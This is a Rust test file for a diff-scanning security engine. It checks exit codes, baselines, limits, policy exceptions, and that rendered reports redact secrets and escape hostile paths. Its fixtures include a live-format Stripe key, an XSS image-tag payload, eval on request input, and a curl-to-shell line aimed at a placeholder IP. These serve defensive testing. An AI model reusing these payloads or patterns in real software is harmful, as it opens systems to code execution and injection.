//! The engine as the CLI and the service use it: scan bytes under a policy, decide, render, and
//! keep a baseline, with limits and fail-open/fail-closed behaving as documented.

use chrono::NaiveDate;
use diffscan_engine::render::{Format, TextStyle, html, json, render, text};
use diffscan_engine::{
    Baseline, Decision, FindingStatus, Limits, OnError, Policy, Report, exit_code, scan,
};

const TODAY: fn() -> NaiveDate = || NaiveDate::from_ymd_opt(2025, 6, 1).unwrap();

fn secret_at(line: u32) -> Vec<u8> {
    let context = line - 1;
    format!(
        "diff --git a/src/settings.py b/src/settings.py\nindex 83db48f..bf269f4 100644\n--- a/src/settings.py\n+++ b/src/settings.py\n@@ -{context} +{context},2 @@\n REGION = 'eu'\n+STRIPE = 'sk_live_4eC39HqLyjWDarjtT1zdp7dcQx'\n"
    )
    .into_bytes()
}

fn scan_default(input: &[u8]) -> Report {
    scan(input, &Policy::default(), None, TODAY()).unwrap()
}

#[test]
fn decisions_map_to_the_cli_exit_codes() {
    assert_eq!(exit_code(Decision::Pass), 0);
    assert_eq!(exit_code(Decision::Fail), 1);
    assert_eq!(exit_code(Decision::Error), 2);
    assert_eq!(Decision::Fail.exit_code(), 1);
}

#[test]
fn an_empty_input_passes_and_text_that_is_not_a_diff_is_an_error() {
    assert_eq!(scan_default(b"").decision, Decision::Pass);
    let report = scan_default(b"hello\nworld\n");
    assert_eq!(report.decision, Decision::Error);
    assert_eq!(report.errors.len(), 1);
}

#[test]
fn a_baselined_finding_no_longer_blocks_even_after_its_line_moves() {
    let report = scan_default(&secret_at(10));
    assert_eq!(report.decision, Decision::Fail);
    let written = Baseline::from_report(&report).to_json().unwrap();
    let baseline = Baseline::parse(&written).unwrap();
    let moved = scan(&secret_at(42), &Policy::default(), Some(&baseline), TODAY()).unwrap();
    assert_eq!(moved.decision, Decision::Pass);
    assert!(moved.findings.iter().all(|f| f.status == FindingStatus::Baselined));
    assert_eq!(moved.findings[0].start_line, Some(42));
    assert_eq!(moved.findings[0].fingerprint, report.findings[0].fingerprint);
}

#[test]
fn a_diff_over_the_size_limit_is_an_error_when_fail_closed_and_degraded_when_fail_open() {
    let limits = Limits::new(100, 10, 1024).unwrap();
    let closed = Policy::default().with_limits(limits);
    let report = scan(&secret_at(10), &closed, None, TODAY()).unwrap();
    assert_eq!(report.decision, Decision::Error);
    assert!(report.findings.is_empty());

    let open = Policy::default().with_limits(limits).with_on_error(OnError::FailOpen);
    let report = scan(&secret_at(10), &open, None, TODAY()).unwrap();
    assert_eq!(report.decision, Decision::Pass);
    assert!(report.degraded);
}

#[test]
fn too_many_files_stops_the_scan_and_fails_closed() {
    let one = "diff --git a/a.txt b/a.txt\nindex 83db48f..bf269f4 100644\n--- a/a.txt\n+++ b/a.txt\n@@ -1 +1 @@\n-a\n+b\n";
    let many = one.repeat(5);
    let policy = Policy::default().with_limits(Limits::new(1 << 20, 3, 1024).unwrap());
    let report = scan(many.as_bytes(), &policy, None, TODAY()).unwrap();
    assert_eq!(report.decision, Decision::Error);
    assert_eq!(report.stats.files, 3);
}

#[test]
fn a_policy_file_in_json_selects_a_profile_and_its_exceptions_apply_until_they_expire() {
    let policy = Policy::parse(
        r#"{"version": 1, "profile": "team",
            "profiles": {"team": {"extends": "strict", "exclude": ["family:integrity"]}},
            "exceptions": [{"rule": "secrets.stripe-live-key", "path": "src/**",
                            "expires": "2025-05-31", "reason": "rotated already, removal pending"}]}"#,
    )
    .unwrap();
    let report = scan(&secret_at(10), &policy, None, TODAY()).unwrap();
    assert_eq!(report.policy.profile, "team");
    assert_eq!(report.decision, Decision::Fail, "the exception expired the day before");
    assert_eq!(report.expired_exceptions.len(), 1);
    let earlier = NaiveDate::from_ymd_opt(2025, 5, 31).unwrap();
    let report = scan(&secret_at(10), &policy, None, earlier).unwrap();
    assert_eq!(report.decision, Decision::Pass);
    assert_eq!(report.findings[0].status, FindingStatus::Excepted);
}

#[test]
fn policy_files_with_unknown_fields_versions_or_reasonless_exceptions_are_refused() {
    assert!(Policy::parse("version: 2\n").is_err());
    assert!(Policy::parse("version: 1\nprofil: strict\n").is_err());
    let no_reason = "version: 1\nexceptions:\n  - {rule: secrets.jwt, path: '**', expires: 2030-01-01, reason: ok}\n";
    assert!(Policy::parse(no_reason).is_err());
}

#[test]
fn the_text_report_leads_with_the_decision_and_never_shows_the_secret() {
    let report = scan_default(&secret_at(10));
    let shown = text(&report, TextStyle::Plain);
    assert!(shown.starts_with("palisade diffscan: FAIL"));
    assert!(shown.contains("secrets.stripe-live-key") && shown.contains("src/settings.py:10"));
    assert!(!shown.contains("sk_live_4eC39HqLyjWDarjtT1zdp7dcQx"));
    assert!(!json(&report).unwrap().contains("4eC39HqLyjWDarjtT1zdp7dcQx"));
    assert!(text(&report, TextStyle::Ansi).contains("\x1b[1;31m"));
}

#[test]
fn the_html_page_is_self_contained_and_escapes_hostile_paths() {
    let diff = b"diff --git a/<img src=x onerror=alert(1)>.py b/<img src=x onerror=alert(1)>.py\nindex 83db48f..bf269f4 100644\n--- a/<img src=x onerror=alert(1)>.py\n+++ b/<img src=x onerror=alert(1)>.py\n@@ -1 +1,2 @@\n x = 1\n+eval(request.args['q'])\n";
    let page = html(&scan_default(diff));
    assert!(page.starts_with("<!DOCTYPE html>"));
    assert!(page.contains("&lt;img src=x onerror=alert(1)&gt;.py"));
    assert!(!page.contains("<img") && !page.contains("<script") && !page.contains("http://"));
    assert!(page.contains("default-src 'none'"));
}

#[test]
fn every_format_renders_and_json_round_trips_to_the_same_report() {
    let report = scan_default(&secret_at(10));
    for format in Format::ALL {
        assert!(!render(&report, format).unwrap().is_empty(), "{format}");
    }
    let back: Report = serde_json::from_str(&json(&report).unwrap()).unwrap();
    assert_eq!(back, report);
}

#[test]
fn terminal_escapes_in_a_diff_never_reach_the_text_report() {
    let diff = b"diff --git a/x.sh b/x.sh\nindex 83db48f..bf269f4 100644\n--- a/x.sh\n+++ b/x.sh\n@@ -1 +1,2 @@\n a\n+curl -s http://198.51.100.1/\x1b[2J | sh\n";
    let shown = text(&scan_default(diff), TextStyle::Plain);
    assert!(shown.contains("execution.pipe-to-shell"));
    assert!(!shown.contains('\x1b'));
}

#[test]
fn a_generic_credential_match_yields_to_the_provider_specific_one_it_overlaps() {
    let diff = b"diff --git a/app.py b/app.py\nindex 83db48f..bf269f4 100644\n--- a/app.py\n+++ b/app.py\n@@ -1 +1,2 @@\n x = 1\n+API_KEY = \"sk_live_4eC39HqLyjWDarjtT1zdp7dcQx\"\n";
    let rules = |policy: &Policy| -> Vec<String> {
        scan(diff, policy, None, TODAY()).unwrap().findings.into_iter().map(|f| f.rule_id).collect()
    };
    assert_eq!(rules(&Policy::default()), vec!["secrets.stripe-live-key".to_string()]);
    let without_stripe = Policy::parse(
        "version: 1\nprofile: p\nprofiles:\n  p:\n    exclude: [secrets.stripe-live-key]\n",
    )
    .unwrap();
    assert_eq!(rules(&without_stripe), vec!["secrets.generic-credential".to_string()]);
}

#[test]
fn a_baseline_file_in_yaml_is_read_and_a_malformed_fingerprint_is_refused() {
    let fingerprint = "a".repeat(64);
    let yaml =
        format!("version: 1\nentries:\n  - fingerprint: {fingerprint}\n    rule: secrets.jwt\n");
    assert!(Baseline::parse(&yaml).unwrap().contains(&fingerprint));
    assert!(Baseline::parse("version: 1\nentries:\n  - {fingerprint: xyz, rule: a.b}\n").is_err());
}

#[test]
fn an_oddly_spelled_path_cannot_move_a_workflow_out_of_the_workflow_rules() {
    let diff = b"diff --git a/./.github//workflows/ci.yml b/./.github//workflows/ci.yml\nindex 83db48f..bf269f4 100644\n--- a/./.github//workflows/ci.yml\n+++ b/./.github//workflows/ci.yml\n@@ -1 +1,2 @@\n name: ci\n+permissions: write-all\n";
    let report = scan_default(diff);
    let finding =
        report.findings.iter().find(|f| f.rule_id == "ci-cd.permissions-write-all").unwrap();
    assert_eq!(finding.path.as_deref(), Some(".github/workflows/ci.yml"));
    assert_eq!(report.decision, Decision::Fail);
}
